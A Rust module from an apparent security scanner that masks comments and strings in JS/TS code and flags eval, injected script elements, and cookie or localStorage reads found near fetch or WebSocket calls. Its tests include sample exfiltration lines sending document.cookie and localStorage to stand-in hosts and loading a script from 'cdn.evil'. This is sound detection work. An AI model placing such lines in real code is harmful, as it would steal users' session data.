//! String-aware JS/TS code analysis.
//!
//! Two byte-preserving transforms feed the checks: one blanks comments but
//! keeps string literals (literal-aware checks), the other blanks comments
//! and string bodies (structural checks). Both keep every byte offset so
//! match positions map straight back to lines in the original file.

use std::sync::LazyLock;

use regex::Regex;

use crate::engine::LineIndex;
use crate::rules::types::{Finding, Severity};

/// A source line and a sink line this far apart still count as one exfil
/// shape.
const EXFIL_WINDOW_LINES: usize = 80;

static EVAL_CALL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\beval\s*\(").expect("eval pattern"));
static NEW_FUNCTION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bnew\s+Function\s*\(").expect("Function pattern"));
static CREATE_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"createElement\s*\(\s*['"]script['"]\s*\)"#).expect("createElement pattern")
});
static SRC_ASSIGN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\.src\s*=").expect("src pattern"));

static EXFIL_SOURCES: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"document\.cookie",
        r"\blocalStorage\b",
        r"chrome\.storage",
        r"chrome\.cookies",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("exfil source pattern"))
    .collect()
});

static EXFIL_SINKS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [r"\bfetch\s*\(", r"\bXMLHttpRequest\b", r"new\s+WebSocket"]
        .iter()
        .map(|p| Regex::new(p).expect("exfil sink pattern"))
        .collect()
});

/// Comment/string state machine output; both buffers are byte-for-byte the
/// same length as the input.
pub struct Transformed {
    /// Comments blanked, string literals intact.
    pub without_comments: String,
    /// Comments and string bodies blanked (quote delimiters kept).
    pub masked: String,
}

#[derive(Clone, Copy, PartialEq)]
enum State {
    Code,
    LineComment,
    BlockComment,
    Single,
    Double,
    Template,
}

/// Blank comments (and, in the masked variant, string bodies) with spaces,
/// preserving newlines so line numbers survive.
pub fn transform(source: &str) -> Transformed {
    let bytes = source.as_bytes();
    let mut without_comments = Vec::with_capacity(bytes.len());
    let mut masked = Vec::with_capacity(bytes.len());
    let mut state = State::Code;
    let mut escaped = false;

    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        let next = bytes.get(i + 1).copied();

        match state {
            State::Code => match (b, next) {
                (b'/', Some(b'/')) => {
                    state = State::LineComment;
                    without_comments.push(b' ');
                    masked.push(b' ');
                }
                (b'/', Some(b'*')) => {
                    state = State::BlockComment;
                    without_comments.push(b' ');
                    masked.push(b' ');
                }
                (b'\'', _) => {
                    state = State::Single;
                    without_comments.push(b);
                    masked.push(b);
                }
                (b'"', _) => {
                    state = State::Double;
                    without_comments.push(b);
                    masked.push(b);
                }
                (b'`', _) => {
                    state = State::Template;
                    without_comments.push(b);
                    masked.push(b);
                }
                _ => {
                    without_comments.push(b);
                    masked.push(b);
                }
            },
            State::LineComment => {
                if b == b'\n' {
                    state = State::Code;
                    without_comments.push(b'\n');
                    masked.push(b'\n');
                } else {
                    without_comments.push(b' ');
                    masked.push(b' ');
                }
            }
            State::BlockComment => {
                if b == b'\n' {
                    without_comments.push(b'\n');
                    masked.push(b'\n');
                } else if b == b'*' && next == Some(b'/') {
                    state = State::Code;
                    without_comments.push(b' ');
                    masked.push(b' ');
                    without_comments.push(b' ');
                    masked.push(b' ');
                    i += 2;
                    continue;
                } else {
                    without_comments.push(b' ');
                    masked.push(b' ');
                }
            }
            State::Single | State::Double | State::Template => {
                let quote = match state {
                    State::Single => b'\'',
                    State::Double => b'"',
                    _ => b'`',
                };
                without_comments.push(b);
                if escaped {
                    escaped = false;
                    masked.push(if b == b'\n' { b'\n' } else { b' ' });
                } else if b == b'\\' {
                    escaped = true;
                    masked.push(b' ');
                } else if b == quote {
                    state = State::Code;
                    masked.push(b);
                } else if b == b'\n' {
                    // Unterminated single/double-quoted strings end at the
                    // line break; template literals span lines.
                    masked.push(b'\n');
                    if state != State::Template {
                        state = State::Code;
                    }
                } else {
                    masked.push(b' ');
                }
            }
        }
        i += 1;
    }

    Transformed {
        without_comments: String::from_utf8_lossy(&without_comments).into_owned(),
        masked: String::from_utf8_lossy(&masked).into_owned(),
    }
}

pub fn scan(content: &str, file: &str, findings: &mut Vec<Finding>) {
    let transformed = transform(content);
    let index = LineIndex::new(content);

    for m in EVAL_CALL
        .find_iter(&transformed.masked)
        .chain(NEW_FUNCTION.find_iter(&transformed.masked))
    {
        findings.push(Finding::heuristic(
            "CODE_JS_EVAL_OR_FUNCTION",
            Severity::High,
            "code_execution",
            "dynamic code evaluation via eval or new Function".to_string(),
            file,
            Some(index.line_of(m.start())),
        ));
    }

    // Literal-aware: the 'script' argument lives inside a string, so this
    // check runs on the comment-stripped variant with strings intact.
    if let Some(create) = CREATE_SCRIPT.find(&transformed.without_comments) {
        if SRC_ASSIGN.is_match(&transformed.without_comments) {
            findings.push(Finding::heuristic(
                "CODE_JS_DYNAMIC_SCRIPT_INJECT",
                Severity::High,
                "code_execution",
                "script element created and assigned a src at runtime".to_string(),
                file,
                Some(index.line_of(create.start())),
            ));
        }
    }

    scan_exfil(&transformed.masked, file, &index, findings);
}

fn scan_exfil(masked: &str, file: &str, index: &LineIndex, findings: &mut Vec<Finding>) {
    let source_lines = match_lines(masked, index, &EXFIL_SOURCES);
    let sink_lines = match_lines(masked, index, &EXFIL_SINKS);

    if source_lines.is_empty() || sink_lines.is_empty() {
        return;
    }

    let proximate = source_lines.iter().any(|&s| {
        sink_lines
            .iter()
            .any(|&k| s.abs_diff(k) <= EXFIL_WINDOW_LINES)
    });
    let repeated = source_lines.len() > 1 && sink_lines.len() > 1;

    let severity = if proximate || repeated {
        Severity::High
    } else {
        Severity::Medium
    };

    findings.push(Finding::heuristic(
        "CODE_JS_EXFIL_SOURCES_TO_NETWORK",
        severity,
        "exfiltration",
        format!(
            "sensitive data source ({} site{}) near network sink ({} site{})",
            source_lines.len(),
            if source_lines.len() == 1 { "" } else { "s" },
            sink_lines.len(),
            if sink_lines.len() == 1 { "" } else { "s" },
        ),
        file,
        source_lines.first().copied(),
    ));
}

fn match_lines(content: &str, index: &LineIndex, patterns: &[Regex]) -> Vec<usize> {
    let mut lines: Vec<usize> = patterns
        .iter()
        .flat_map(|p| p.find_iter(content).map(|m| index.line_of(m.start())))
        .collect();
    lines.sort_unstable();
    lines.dedup();
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan_str(content: &str) -> Vec<Finding> {
        let mut findings = Vec::new();
        scan(content, "/src/app.js", &mut findings);
        findings
    }

    fn ids(findings: &[Finding]) -> Vec<&str> {
        findings.iter().map(|f| f.rule_id.as_str()).collect()
    }

    #[test]
    fn test_transform_preserves_length_and_newlines() {
        let src = "let a = 'x'; // trailing\nconst b = `multi\nline`;\n/* block */ eval(c);\n";
        let t = transform(src);
        assert_eq!(t.masked.len(), src.len());
        assert_eq!(t.without_comments.len(), src.len());
        assert_eq!(
            t.masked.matches('\n').count(),
            src.matches('\n').count()
        );
    }

    #[test]
    fn test_transform_blanks_comments_keeps_strings() {
        let t = transform("let a = 'keep'; // gone\n");
        assert!(t.without_comments.contains("'keep'"));
        assert!(!t.without_comments.contains("gone"));
    }

    #[test]
    fn test_transform_masked_blanks_string_bodies() {
        let t = transform("let a = 'secret';\n");
        assert!(!t.masked.contains("secret"));
        assert!(t.masked.contains('\''));
    }

    #[test]
    fn test_eval_detected() {
        let findings = scan_str("eval(userInput);\n");
        assert!(ids(&findings).contains(&"CODE_JS_EVAL_OR_FUNCTION"));
        assert_eq!(findings[0].line, Some(1));
    }

    #[test]
    fn test_new_function_detected() {
        let findings = scan_str("const f = new Function('return 1');\n");
        assert!(ids(&findings).contains(&"CODE_JS_EVAL_OR_FUNCTION"));
    }

    #[test]
    fn test_eval_in_comment_ignored() {
        let findings = scan_str("// eval(x)\n/* new Function(y) */\n");
        assert!(!ids(&findings).contains(&"CODE_JS_EVAL_OR_FUNCTION"));
    }

    #[test]
    fn test_eval_in_string_ignored() {
        let findings = scan_str("const msg = 'do not eval(this)';\n");
        assert!(!ids(&findings).contains(&"CODE_JS_EVAL_OR_FUNCTION"));
    }

    #[test]
    fn test_script_inject_requires_both_halves() {
        let only_create = scan_str("const s = document.createElement('script');\n");
        assert!(!ids(&only_create).contains(&"CODE_JS_DYNAMIC_SCRIPT_INJECT"));

        let both = scan_str(
            "const s = document.createElement('script');\ns.src = 'https://cdn.evil/x.js';\n",
        );
        assert!(ids(&both).contains(&"CODE_JS_DYNAMIC_SCRIPT_INJECT"));
    }

    #[test]
    fn test_script_inject_commented_out_ignored() {
        let findings =
            scan_str("// document.createElement('script')\nimg.src = 'a.png';\n");
        assert!(!ids(&findings).contains(&"CODE_JS_DYNAMIC_SCRIPT_INJECT"));
    }

    #[test]
    fn test_exfil_cookie_to_fetch_high() {
        let findings = scan_str(
            "const c = document.cookie;\nfetch(\"https://example.com\",{method:\"POST\",body:c});\n",
        );
        let hit = findings
            .iter()
            .find(|f| f.rule_id == "CODE_JS_EXFIL_SOURCES_TO_NETWORK")
            .unwrap();
        assert_eq!(hit.severity, Severity::High);
        assert_eq!(hit.line, Some(1));
    }

    #[test]
    fn test_exfil_distant_single_pair_medium() {
        let mut code = String::from("const c = document.cookie;\n");
        code.push_str(&"// filler\n".repeat(200));
        code.push_str("fetch('https://x.example');\n");
        let findings = scan_str(&code);
        let hit = findings
            .iter()
            .find(|f| f.rule_id == "CODE_JS_EXFIL_SOURCES_TO_NETWORK")
            .unwrap();
        assert_eq!(hit.severity, Severity::Medium);
    }

    #[test]
    fn test_exfil_needs_source_and_sink() {
        assert!(!ids(&scan_str("const c = document.cookie;\n"))
            .contains(&"CODE_JS_EXFIL_SOURCES_TO_NETWORK"));
        assert!(!ids(&scan_str("fetch('https://x.example');\n"))
            .contains(&"CODE_JS_EXFIL_SOURCES_TO_NETWORK"));
    }

    #[test]
    fn test_exfil_websocket_sink() {
        let findings = scan_str(
            "const ws = new WebSocket('wss://x.example');\nws.send(localStorage.getItem('t'));\n",
        );
        assert!(ids(&findings).contains(&"CODE_JS_EXFIL_SOURCES_TO_NETWORK"));
    }

    #[test]
    fn test_template_literal_spans_lines() {
        let src = "const t = `line one\neval(not real)\n`;\nconsole.log(t);\n";
        let findings = scan_str(src);
        assert!(!ids(&findings).contains(&"CODE_JS_EVAL_OR_FUNCTION"));
    }

    #[test]
    fn test_escaped_quote_does_not_end_string() {
        let src = "const s = 'it\\'s fine';\neval(x);\n";
        let findings = scan_str(src);
        // The eval on line 2 is real code, not swallowed by the string.
        assert!(ids(&findings).contains(&"CODE_JS_EVAL_OR_FUNCTION"));
    }
}
